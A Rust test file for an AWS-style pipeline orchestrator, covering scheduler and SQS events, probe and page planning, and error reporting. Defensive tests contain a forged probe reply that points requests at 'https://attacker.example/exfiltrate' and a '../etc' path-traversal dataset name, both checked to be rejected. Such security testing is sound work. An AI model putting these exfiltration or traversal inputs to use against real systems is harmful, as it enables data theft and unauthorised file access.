//! The Orchestrator's handler fed with the AWS-shaped events under `events/`,
//! sending through the local [`Broker`] (real in-process SQS semantics).

use std::time::Duration;

use aws_lambda_events::event::eventbridge::EventBridgeEvent;
use aws_lambda_events::event::sqs::SqsEvent;
use chrono::{DateTime, NaiveDate, TimeZone, Utc};
use serde_json::{Value, json};

use adapters::local::{Broker, QueueConfig};
use contracts::{self, Destination, PageRef, RequestMessage, RequestMode};
use orchestrator::{Deps, OrchestratorConfig};
use test_support::queues::drain_json;

use crate::common;

const SCHEDULER_EVENT: &str = include_str!("../../../../events/scheduler-event.json");
const SCHEDULER_EVENT_STRING_DETAIL: &str = include_str!("../../../../events/scheduler-event-string-detail.json");
const SPEC_CONSTANT_INPUT: &str = include_str!("../../../../events/spec-constant-input.json");
const PROBE_REPLIES: &str = include_str!("../../../../events/orchestrator-probe-replies.sqs.json");

const REQUEST_QUEUE: &str = "request";

fn config() -> OrchestratorConfig {
    OrchestratorConfig {
        request_queue: REQUEST_QUEUE.into(),
        persist_queue: "persist".into(),
        orchestrator_queue: "orchestrator".into(),
        athena_queue: "athena".into(),
        query_results_topic: "query-results".into(),
        dead_letter: None,
        fanout: orchestrator::Fanout::default(),
    }
}

fn broker() -> Broker {
    let broker = Broker::new();
    for name in [REQUEST_QUEUE, "persist", "orchestrator"] {
        broker.create_queue(QueueConfig {
            name: name.into(),
            visibility_timeout: Duration::from_secs(180),
            max_message_bytes: 262_144,
            redrive: None,
        });
    }
    broker
}

/// Invocation time, deliberately not the scheduled time.
fn now() -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 11, 29, 6, 0, 7).single().expect("valid time")
}

fn date() -> NaiveDate {
    NaiveDate::from_ymd_opt(2026, 11, 29).expect("valid date")
}

fn fixture(text: &str) -> Value {
    serde_json::from_str(text).expect("fixture is JSON")
}

/// Drains the request queue and decodes every body as a `RequestMessage`.
fn drain_requests(broker: &Broker) -> Vec<RequestMessage> {
    drain_json(broker, REQUEST_QUEUE)
        .into_iter()
        .map(|value| contracts::decode::<RequestMessage>(value).expect("a RequestMessage"))
        .collect()
}

fn query_of(message: &RequestMessage, name: &str) -> Option<String> {
    message.http.query.get(name).cloned()
}

#[test]
fn fixtures_have_the_shapes_aws_delivers() {
    for text in [SCHEDULER_EVENT, SCHEDULER_EVENT_STRING_DETAIL] {
        let event: EventBridgeEvent = serde_json::from_str(text).expect("an EventBridge event");
        assert_eq!(event.source, "aws.scheduler");
        assert_eq!(event.detail_type, "Scheduled Event");
        let resources = event.resources.expect("resources");
        assert!(resources[0].starts_with("arn:aws:scheduler:"), "{resources:?}");
    }
    let event: SqsEvent = serde_json::from_str(PROBE_REPLIES).expect("an SQS event");
    assert_eq!(event.records.len(), 4);
    for record in &event.records {
        assert_eq!(
            record.event_source_arn.as_deref(),
            Some("arn:aws:sqs:us-east-1:123456789012:tributary-orchestrator")
        );
    }
}

#[tokio::test]
async fn scheduler_event_sends_one_probe_dated_by_the_scheduled_time() {
    let (broker, config) = (broker(), config());
    let deps = Deps { queue: &broker, config: &config, ledger: None };
    let summary =
        orchestrator::handle(fixture(SCHEDULER_EVENT), now(), common::deadline(), deps).await.expect("run starts");
    assert_eq!(summary["run_id"], "20261129T060000Z", "{summary}");
    assert_eq!(summary["strategy"], "paged", "{summary}");
    assert_eq!(summary["messages_sent"], 1, "{summary}");

    let sent = drain_requests(&broker);
    assert_eq!(sent.len(), 1, "exactly one probe: {sent:#?}");
    let probe = &sent[0];
    assert_eq!(probe.pipeline, "customers");
    assert_eq!(probe.run_id.as_str(), "20261129T060000Z");
    assert_eq!(probe.run_date, date());
    assert_eq!(probe.page, None, "a probe fetches no page of its own");
    assert_eq!(probe.http.url.as_str(), "http://127.0.0.1:9/customers");
    assert_eq!(query_of(probe, "offset").as_deref(), Some("0"));
    assert_eq!(query_of(probe, "limit").as_deref(), Some("50"));
    assert_eq!(probe.reply_to, Destination::Queue { queue: "orchestrator".into() });
    let RequestMode::Probe { total_pointer, context, .. } = &probe.mode else {
        panic!("expected probe mode, got {:?}", probe.mode)
    };
    assert_eq!(total_pointer, "/total");
    assert_eq!(context["pipeline"], "customers");
    assert_eq!(context["strategy"]["page_size"], 50);
    assert_eq!(context["request"]["records_pointer"], "/items");
    assert_eq!(broker.depth("persist") + broker.depth("orchestrator"), 0);
}

#[tokio::test]
async fn redelivered_scheduler_event_plans_the_same_run() {
    let (broker, config) = (broker(), config());
    let deps = Deps { queue: &broker, config: &config, ledger: None };
    let later = now() + chrono::Duration::minutes(3);
    orchestrator::handle(fixture(SCHEDULER_EVENT), now(), common::deadline(), deps).await.expect("first delivery");
    orchestrator::handle(fixture(SCHEDULER_EVENT), later, common::deadline(), deps).await.expect("redelivery");
    let sent = drain_requests(&broker);
    assert_eq!(sent.len(), 2);
    assert_eq!(sent[0], sent[1], "same scheduled time, same message");
}

#[tokio::test]
async fn string_detail_starts_a_simple_run() {
    let (broker, config) = (broker(), config());
    let deps = Deps { queue: &broker, config: &config, ledger: None };
    let summary = orchestrator::handle(fixture(SCHEDULER_EVENT_STRING_DETAIL), now(), common::deadline(), deps)
        .await
        .expect("run starts");
    assert_eq!(summary["strategy"], "simple", "{summary}");
    let sent = drain_requests(&broker);
    assert_eq!(sent.len(), 1, "{sent:#?}");
    let request = &sent[0];
    assert_eq!(request.run_id.as_str(), "20261129T060000Z");
    assert_eq!(request.run_date, date());
    assert_eq!(request.page, Some(PageRef::SINGLE));
    assert_eq!(request.reply_to, Destination::Queue { queue: "persist".into() });
    let RequestMode::Records { records_pointer, target, .. } = &request.mode else {
        panic!("expected records mode, got {:?}", request.mode)
    };
    assert_eq!(records_pointer.as_deref(), Some("/items"));
    assert_eq!(target.dataset, "customers");
}

#[tokio::test]
async fn constant_input_spec_starts_a_run_dated_by_the_invocation() {
    let (broker, config) = (broker(), config());
    let deps = Deps { queue: &broker, config: &config, ledger: None };
    let summary =
        orchestrator::handle(fixture(SPEC_CONSTANT_INPUT), now(), common::deadline(), deps).await.expect("run starts");
    assert_eq!(summary["run_id"], "20261129T060007Z", "{summary}");
    let sent = drain_requests(&broker);
    assert_eq!(sent.len(), 1);
    assert_eq!(sent[0].run_id.as_str(), "20261129T060007Z");
    assert_eq!(sent[0].run_date, date());
    assert!(matches!(sent[0].mode, RequestMode::Probe { .. }), "{:?}", sent[0].mode);
}

#[tokio::test]
async fn probe_replies_plan_pages_and_report_only_the_unreadable_record() {
    let (broker, config) = (broker(), config());
    let deps = Deps { queue: &broker, config: &config, ledger: None };
    let response =
        orchestrator::handle(fixture(PROBE_REPLIES), now(), common::deadline(), deps).await.expect("SQS batch");
    assert_eq!(
        response,
        json!({"batchItemFailures": [{"itemIdentifier": "4d1e2f3a-0004-4b5c-8d9e-not-json"}]}),
        "only the non-JSON record fails"
    );

    let sent = drain_requests(&broker);
    // Plain reply (run 060000Z) and SNS-enveloped reply (run 120000Z): 120
    // records at 50 a page each; the zero-total reply (run 180000Z) plans
    // nothing.
    assert_eq!(sent.len(), 6, "{sent:#?}");
    for run_id in ["20261129T060000Z", "20261129T120000Z"] {
        let mut pages: Vec<&RequestMessage> = sent.iter().filter(|m| m.run_id.as_str() == run_id).collect();
        pages.sort_by_key(|m| m.page.map(|p| p.index));
        assert_eq!(pages.len(), 3, "run {run_id}: {pages:#?}");
        for (index, page) in pages.iter().enumerate() {
            let index = u32::try_from(index).expect("small");
            assert_eq!(page.page, Some(PageRef { index, count: 3 }), "run {run_id}");
            assert_eq!(query_of(page, "offset"), Some((index * 50).to_string()), "run {run_id}");
            assert_eq!(query_of(page, "limit").as_deref(), Some("50"));
            assert_eq!(page.run_date, date());
            assert_eq!(page.reply_to, Destination::Queue { queue: "persist".into() });
            assert!(matches!(&page.mode, RequestMode::Records { target, .. } if target.dataset == "customers"));
        }
    }
    assert!(sent.iter().all(|m| m.run_id.as_str() != "20261129T180000Z"), "a zero total plans no page");
}

#[tokio::test]
async fn unrecognised_event_is_refused_naming_what_was_found() {
    let (broker, config) = (broker(), config());
    let deps = Deps { queue: &broker, config: &config, ledger: None };
    let err =
        orchestrator::handle(json!({"hello": 1}), now(), common::deadline(), deps).await.expect_err("not a trigger");
    let text = err.to_string();
    assert!(text.contains("unrecognised orchestrator event"), "{text}");
    assert!(text.contains("hello"), "names the keys found: {text}");
    assert!(text.contains("strategy"), "names what a spec needs: {text}");
    assert!(broker.is_drained());
}

#[tokio::test]
async fn unknown_strategy_kind_names_the_strategy_field() {
    let (broker, config) = (broker(), config());
    let deps = Deps { queue: &broker, config: &config, ledger: None };
    let mut event = fixture(SCHEDULER_EVENT);
    event["detail"]["strategy"]["kind"] = json!("scatter_gather");
    let err = orchestrator::handle(event, now(), common::deadline(), deps).await.expect_err("unknown kind");
    let text = err.to_string();
    assert!(text.contains("`strategy`") && text.contains("scatter_gather"), "{text}");
    assert!(broker.is_drained(), "nothing sent for an invalid spec");
}

#[tokio::test]
async fn malformed_time_names_the_time_field() {
    let (broker, config) = (broker(), config());
    let deps = Deps { queue: &broker, config: &config, ledger: None };
    let mut event = fixture(SCHEDULER_EVENT);
    event["time"] = json!("29/11/2026 06:00");
    let err = orchestrator::handle(event, now(), common::deadline(), deps).await.expect_err("bad time");
    let text = err.to_string();
    assert!(text.contains("`time`") && text.contains("29/11/2026 06:00"), "{text}");
    assert!(broker.is_drained());
}

#[tokio::test]
async fn string_detail_that_is_not_json_names_the_detail_field() {
    let (broker, config) = (broker(), config());
    let deps = Deps { queue: &broker, config: &config, ledger: None };
    let mut event = fixture(SCHEDULER_EVENT_STRING_DETAIL);
    event["detail"] = json!("pipeline: customers");
    let err = orchestrator::handle(event, now(), common::deadline(), deps).await.expect_err("bad detail");
    assert!(err.to_string().contains("`detail`"), "{err}");
}

#[tokio::test]
async fn only_a_reply_to_the_orchestrators_own_probe_plans_pages() {
    let (broker, config) = (broker(), config());
    let dir = tempfile::tempdir().expect("tempdir");
    let store = adapters::local::DirStore::new(dir.path());
    let ledger = tributary_core::ledger::RunLedger { store: &store, events: None };
    let deps = Deps { queue: &broker, config: &config, ledger: Some(ledger) };
    orchestrator::handle(fixture(SCHEDULER_EVENT), now(), common::deadline(), deps).await.expect("run starts");
    let probe = drain_requests(&broker).remove(0);
    let RequestMode::Probe { context, .. } = &probe.mode else { panic!("a probe: {:?}", probe.mode) };
    let reply = |context: Value, run_id: &str| contracts::ProbeReply {
        version: contracts::V1,
        pipeline: probe.pipeline.clone(),
        run_id: contracts::RunId::new(run_id).expect("run id"),
        run_date: probe.run_date,
        total: 120,
        context,
    };

    // A forged reply: the spec of the run, pointed at another server.
    let mut forged = context.clone();
    forged["request"]["url"] = json!("https://attacker.example/exfiltrate");
    let err = orchestrator::on_probe_reply(reply(forged, probe.run_id.as_str()), common::deadline(), deps)
        .await
        .expect_err("forged spec");
    assert!(err.to_string().contains("not the one sent"), "{err}");
    // A reply for a run no probe was sent for.
    let err = orchestrator::on_probe_reply(reply(context.clone(), "20260101T000000Z"), common::deadline(), deps)
        .await
        .expect_err("no run");
    assert!(err.to_string().contains("nothing was sent for this run"), "{err}");
    assert!(tributary_core::batch::RecordError::is_permanent(&err));
    assert_eq!(broker.depth(REQUEST_QUEUE), 0, "nothing planned for either");

    orchestrator::on_probe_reply(reply(context.clone(), probe.run_id.as_str()), common::deadline(), deps)
        .await
        .expect("the genuine reply");
    assert_eq!(drain_requests(&broker).len(), 3, "120 records in pages of 50");
}

/// An SQS event from the orchestrator queue with one record per body.
fn sqs_event(bodies: &[String]) -> Value {
    let records: Vec<Value> = bodies
        .iter()
        .enumerate()
        .map(|(i, body)| {
            json!({
                "messageId": format!("trigger-{i}"),
                "receiptHandle": format!("handle-{i}"),
                "body": body,
                "attributes": {"ApproximateReceiveCount": "1", "SentTimestamp": "1795500000000"},
                "messageAttributes": {},
                "eventSource": "aws:sqs",
                "eventSourceARN": "arn:aws:sqs:us-east-1:123456789012:tributary-orchestrator",
                "awsRegion": "us-east-1"
            })
        })
        .collect();
    json!({ "Records": records })
}

#[tokio::test]
async fn queued_run_triggers_start_runs_and_report_only_their_own_failures() {
    let (broker, config) = (broker(), config());
    let dir = tempfile::tempdir().expect("tempdir");
    let store = adapters::local::DirStore::new(dir.path());
    let ledger = tributary_core::ledger::RunLedger { store: &store, events: None };
    let deps = Deps { queue: &broker, config: &config, ledger: Some(ledger) };
    let scheduled = fixture(SCHEDULER_EVENT);
    let trigger = |time: Option<&str>, detail: &Value| {
        let mut event = json!({"source": "aws.scheduler", "detail-type": "Scheduled Event", "detail": detail});
        if let Some(time) = time {
            event["time"] = json!(time);
        }
        event.to_string()
    };
    let mut invalid = scheduled["detail"].clone();
    invalid["target"]["dataset"] = json!("../etc");
    let bodies = [
        trigger(Some("2026-11-28T06:00:00Z"), &scheduled["detail"]),
        trigger(None, &scheduled["detail"]),
        trigger(Some("2026-11-29T06:00:00Z"), &invalid),
        // The detail as a JSON string, as the scheduler may deliver it.
        trigger(Some("2026-11-30T06:00:00Z"), &json!(scheduled["detail"].to_string())),
    ];
    let response =
        orchestrator::handle(sqs_event(&bodies), now(), common::deadline(), deps).await.expect("an SQS batch");
    assert_eq!(
        response,
        json!({"batchItemFailures": [{"itemIdentifier": "trigger-1"}, {"itemIdentifier": "trigger-2"}]}),
        "a trigger without `time` and one with an invalid spec fail alone"
    );
    let mut runs: Vec<String> = drain_requests(&broker).iter().map(|m| m.run_id.to_string()).collect();
    runs.sort();
    assert_eq!(runs, ["20261128T060000Z", "20261130T060000Z"], "one probe per started run, named by its time");
    // The probe was recorded, so its reply will plan the pages.
    assert!(dir.path().join("_runs/customers/20261128T060000Z/probe.json").exists());

    // The errors name the field.
    let event: SqsEvent = serde_json::from_value(sqs_event(&bodies[1..3])).expect("SQS event");
    let record = &event.records[0];
    let err = serde_json::from_str::<orchestrator::Inbox>(record.body.as_deref().expect("body")).expect_err("no time");
    assert!(err.to_string().contains("`time`") && err.to_string().contains("scheduled time"), "{err}");
    let err = serde_json::from_str::<orchestrator::Inbox>(event.records[1].body.as_deref().expect("body"))
        .expect_err("bad spec");
    assert!(err.to_string().contains("target.dataset"), "{err}");
}
